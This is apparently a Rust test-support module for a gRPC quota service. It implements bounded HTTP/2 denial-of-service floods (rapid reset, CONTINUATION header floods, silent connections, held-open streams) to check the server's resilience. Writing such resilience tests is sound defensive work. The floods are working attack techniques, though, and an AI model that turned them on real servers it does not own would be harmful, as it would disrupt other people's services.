//! What a hostile caller may do to a listener. Each flood is bounded in count and time, and stops by itself.

use std::{
    io::{Read as _, Write as _},
    net::TcpStream,
    time::{Duration, Instant},
};

use h2::{Reason, client::SendRequest};
use http::{Method, Request};
use nix::sys::resource::{Resource, getrlimit, setrlimit};

/// HTTP/2's preface and empty settings.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// Enough for all floods and the tests that run at the same time.
const MAX_OPEN_FILES: u64 = 20_000;

const RESERVE: &str = "/tollgate.v1.QuotaService/Reserve";
const STREAM: &str = "/tollgate.v1.QuotaService/ReserveStream";

/// Sends the calls of a connection.
pub type Sender = SendRequest<prost::bytes::Bytes>;

/// A connection without the safeguards of a client library.
pub async fn raw_http2(addr: &str) -> Result<Sender, h2::Error> {
    let tcp = tokio::net::TcpStream::connect(addr).await;
    let tcp = tcp.map_err(|_| Reason::CONNECT_ERROR)?;
    let (sender, connection) = h2::client::Builder::new()
        .max_concurrent_reset_streams(100_000)
        .initial_max_send_streams(1_000)
        .handshake(tcp)
        .await?;
    tokio::spawn(connection);
    Ok(sender)
}

/// The head of a call.
pub fn head(addr: &str, path: &str, timeout: Option<&str>) -> Request<()> {
    let request = Request::builder()
        .method(Method::POST)
        .uri(format!("http://{addr}{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers");
    let request = match timeout {
        Some(timeout) => request.header("grpc-timeout", timeout),
        None => request,
    };
    request.body(()).unwrap()
}

/// Begins calls and cancels them at once, on one connection after the other. Gives their number.
pub async fn rapid_reset(addr: &str, lasts: Duration) -> usize {
    let until = Instant::now() + lasts;
    let mut begun = 0;
    while Instant::now() < until && begun < 1_000_000 {
        let Ok(mut sender) = raw_http2(addr).await else {
            continue;
        };
        loop {
            let Ok(ready) = sender.ready().await else {
                break;
            };
            sender = ready;
            let Ok((_, mut body)) = sender.send_request(head(addr, RESERVE, None), false) else {
                break;
            };
            body.send_reset(Reason::CANCEL);
            begun += 1;
            if begun % 64 == 0 {
                tokio::task::yield_now().await;
                if Instant::now() >= until {
                    break;
                }
            }
        }
    }
    begun
}

/// Sends endless headers, on one connection after the other. Gives the number of sent bytes.
pub fn continuation_flood(addr: &str, lasts: Duration) -> usize {
    let until = Instant::now() + lasts;
    let mut sent = 0;
    // A literal header with a name and a value of 100 bytes, never indexed, repeated.
    let mut fragment = Vec::new();
    while fragment.len() < 8_000 {
        fragment.extend([0x10, 100]);
        fragment.extend([b'a'; 100]);
        fragment.push(100);
        fragment.extend([b'b'; 100]);
    }
    let frame = |kind: u8, flags: u8| {
        let length = u32::try_from(fragment.len()).unwrap().to_be_bytes();
        let mut frame = length[1..].to_vec();
        frame.extend([kind, flags, 0, 0, 0, 1]);
        frame.extend(&fragment);
        frame
    };
    let (headers, continuation) = (frame(1, 0), frame(9, 0));
    while Instant::now() < until && sent < 256 << 20 {
        let Ok(mut stream) = TcpStream::connect(addr) else {
            continue;
        };
        stream
            .set_write_timeout(Some(Duration::from_millis(200)))
            .unwrap();
        if stream.write_all(PREFACE).is_err() || stream.write_all(&headers).is_err() {
            continue;
        }
        while Instant::now() < until && stream.write_all(&continuation).is_ok() {
            sent += continuation.len();
        }
    }
    sent
}

/// The number of connections of a flood: limited to half of what this process may open, because other tests run in it.
/// Many systems allow 1024 files by default.
pub fn fitted_to_open_files(connections: usize) -> usize {
    let (current, maximum) = getrlimit(Resource::RLIMIT_NOFILE).unwrap();
    let allowed = current.max(maximum.min(MAX_OPEN_FILES));
    setrlimit(Resource::RLIMIT_NOFILE, allowed, maximum).unwrap();
    connections.min(usize::try_from(allowed / 2).unwrap())
}

/// Connections that send this, and then nothing.
pub fn silent_connections(addr: &str, count: usize, beginning: &[u8]) -> Vec<TcpStream> {
    let mut silent = Vec::with_capacity(count);
    for at in 0..count {
        // Leaves some CPU time.
        if at % 100 == 99 {
            std::thread::sleep(Duration::from_millis(40));
        }
        // The listener may be busy with earlier ones.
        let mut failures = 0;
        loop {
            let received = TcpStream::connect(addr).and_then(|mut stream| {
                stream.write_all(beginning)?;
                Ok(stream)
            });
            match received {
                Ok(stream) => break silent.push(stream),
                Err(error) => {
                    failures += 1;
                    let so_far = silent.len();
                    assert!(
                        failures < 200,
                        "none is taken any more after {so_far}: {error}"
                    );
                    std::thread::sleep(Duration::from_millis(10));
                }
            }
        }
    }
    silent
}

/// How many of them the server has closed.
pub fn closed(connections: &mut [TcpStream]) -> usize {
    let mut closed = 0;
    let mut bytes = [0; 1024];
    for connection in connections {
        connection.set_nonblocking(true).unwrap();
        loop {
            match connection.read(&mut bytes) {
                Ok(0) => closed += 1,
                Ok(_) => continue,
                Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
                Err(_) => closed += 1,
            }
            break;
        }
    }
    closed
}

/// An open call.
type OpenCall = (h2::RecvStream, h2::SendStream<prost::bytes::Bytes>);

/// Open, silent streams on several connections; they end when this is dropped.
pub struct HeldStreams {
    _connections: Vec<(Sender, Vec<OpenCall>)>,
}

pub async fn held_streams(addr: &str, connections: usize, each: usize) -> HeldStreams {
    let mut held = Vec::new();
    for _ in 0..connections {
        let mut sender = raw_http2(addr).await.unwrap();
        let mut streams = Vec::new();
        for _ in 0..each {
            sender = sender.ready().await.unwrap();
            let (answer, requests) = sender
                .send_request(head(addr, STREAM, None), false)
                .unwrap();
            // The head of the answer shows that the call has begun.
            streams.push((answer.await.unwrap().into_body(), requests));
        }
        held.push((sender, streams));
    }
    HeldStreams { _connections: held }
}
